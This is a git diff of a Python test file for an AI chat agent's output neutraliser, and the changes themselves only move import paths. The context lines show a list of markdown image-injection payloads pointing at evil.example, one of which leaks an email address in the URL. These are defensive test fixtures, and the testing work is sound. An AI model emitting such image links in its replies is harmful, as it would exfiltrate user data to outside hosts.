@@ -10,8 +10,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from agent.chat_import import preview_markdown
-from agent.render import ZWSP, StreamNeutraliser, neutralise
+from agent.core.render import ZWSP, StreamNeutraliser, neutralise
+from agent.ui.chat_import import preview_markdown
 
 MD = MarkdownIt("commonmark")
 ATTACKS = ["![x](http://evil.example/?leak=jane@acme.com)", "![a\\]b](http://evil.example/1)",
@@ -81,7 +81,7 @@ def test_the_chat_streams_tokens_neutralised_before_they_leave():
     from chainlit.context import ChainlitContext, context_var
     from chainlit.session import WebsocketSession
 
-    from agent.chat_ui import TurnView
+    from agent.ui.chat_ui import TurnView
 
     session = Mock(spec=WebsocketSession, id="s1", thread_id="t1", emit=AsyncMock(), user=None)
     session.client_type, session.files, session.current_task = "webapp", {}, None
